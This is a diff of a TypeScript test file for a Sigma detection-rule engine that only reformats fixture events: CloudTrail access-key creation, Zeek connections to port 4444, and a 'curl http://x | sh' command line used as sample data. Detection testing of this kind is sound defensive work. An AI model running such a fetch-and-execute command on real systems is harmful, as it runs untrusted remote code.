@@ -14,8 +14,15 @@ import { eventsDatabase, testEvent, type EventsDatabase } from './sigma-test-db.
 
 const now = new Date('2026-11-20T00:10:00Z');
 const rawCloudtrail = (actor: string, errorCode?: string) => ({
-  eventVersion: '1.08', eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', eventType: 'AwsApiCall', eventTime: '2026-11-20T00:00:00Z',
-  sourceIPAddress: '198.51.100.4', userIdentity: { type: 'IAMUser', userName: actor }, requestParameters: { userName: 'bob' }, ...(errorCode ? { errorCode } : {}),
+  eventVersion: '1.08',
+  eventSource: 'iam.amazonaws.com',
+  eventName: 'CreateAccessKey',
+  eventType: 'AwsApiCall',
+  eventTime: '2026-11-20T00:00:00Z',
+  sourceIPAddress: '198.51.100.4',
+  userIdentity: { type: 'IAMUser', userName: actor },
+  requestParameters: { userName: 'bob' },
+  ...(errorCode ? { errorCode } : {}),
 });
 
 function throughPipeline(raw: object, lowerKeys: boolean): PicketEvent {
@@ -33,16 +40,52 @@ const EVENTS: Record<string, PicketEvent> = {
   lowered: { ...lowered, id: testEvent(0, {}).id },
   camel: { ...camel, id: testEvent(1, {}).id },
   failed: { ...failed, id: testEvent(2, {}).id },
-  mozdef: testEvent(3, { category: 'cloudtrail', source: 'cloudtrail', details: { eventsource: 'iam.amazonaws.com', eventname: 'CreateAccessKey', useridentity: { username: 'erin' }, requestparameters: { username: 'bob' } } }),
+  mozdef: testEvent(3, {
+    category: 'cloudtrail',
+    source: 'cloudtrail',
+    details: {
+      eventsource: 'iam.amazonaws.com',
+      eventname: 'CreateAccessKey',
+      useridentity: { username: 'erin' },
+      requestparameters: { username: 'bob' },
+    },
+  }),
   // The same fields on a non-CloudTrail event must not match a CloudTrail rule.
-  notCloudtrail: testEvent(4, { category: 'syslog', details: { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey' } }),
-  zeekFlat: testEvent(5, { category: 'bro', source: 'conn', details: { 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444, sourceipaddress: '192.0.2.66' } }),
-  zeekNested: testEvent(6, { category: 'bro', source: 'conn', details: { id: { orig_h: '192.0.2.66', resp_p: 4444 } } }),
-  zeekOther: testEvent(7, { category: 'bro', source: 'conn', details: { 'id.orig_h': '192.0.2.99', 'id.resp_p': 4444 } }),
+  notCloudtrail: testEvent(4, {
+    category: 'syslog',
+    details: { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey' },
+  }),
+  zeekFlat: testEvent(5, {
+    category: 'bro',
+    source: 'conn',
+    details: { 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444, sourceipaddress: '192.0.2.66' },
+  }),
+  zeekNested: testEvent(6, {
+    category: 'bro',
+    source: 'conn',
+    details: { id: { orig_h: '192.0.2.66', resp_p: 4444 } },
+  }),
+  zeekOther: testEvent(7, {
+    category: 'bro',
+    source: 'conn',
+    details: { 'id.orig_h': '192.0.2.99', 'id.resp_p': 4444 },
+  }),
   zeekDns: testEvent(8, { category: 'bro', source: 'dns', details: { 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444 } }),
-  syslog: testEvent(9, { category: 'syslog', summary: 'web POST /admin', details: { 'cs-method': 'POST', 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444 } }),
-  execve: testEvent(10, { category: 'execve', processname: '/usr/bin/curl', details: { commandline: 'curl http://x | sh' } }),
-  execveElsewhere: testEvent(11, { category: 'syslog', processname: '/usr/bin/curl', details: { commandline: 'curl http://x | sh' } }),
+  syslog: testEvent(9, {
+    category: 'syslog',
+    summary: 'web POST /admin',
+    details: { 'cs-method': 'POST', 'id.orig_h': '192.0.2.66', 'id.resp_p': 4444 },
+  }),
+  execve: testEvent(10, {
+    category: 'execve',
+    processname: '/usr/bin/curl',
+    details: { commandline: 'curl http://x | sh' },
+  }),
+  execveElsewhere: testEvent(11, {
+    category: 'syslog',
+    processname: '/usr/bin/curl',
+    details: { commandline: 'curl http://x | sh' },
+  }),
 };
 const nameOf = new Map(Object.entries(EVENTS).map(([k, e]) => [e.id, k]));
 
@@ -79,7 +122,13 @@ detection:
   condition: selection and not filter_self and not filter_failed
 `;
     expect(await matches(yaml)).toEqual(['camel', 'lowered', 'mozdef']);
-    expect(await matches(yaml.replace('errorCode|exists: true', 'errorCode: accessdenied').replace('and not filter_failed', 'and filter_failed'))).toEqual(['failed']);
+    expect(
+      await matches(
+        yaml
+          .replace('errorCode|exists: true', 'errorCode: accessdenied')
+          .replace('and not filter_failed', 'and filter_failed'),
+      ),
+    ).toEqual(['failed']);
   });
 });
 
@@ -102,7 +151,10 @@ describe('logsource mapping', () => {
   });
 
   it('no logsource means every event', async () => {
-    expect(await matches(`title: p\ndetection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n`)).toEqual(['execve', 'execveElsewhere']);
+    expect(await matches(`title: p\ndetection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n`)).toEqual([
+      'execve',
+      'execveElsewhere',
+    ]);
   });
 
   it.each([
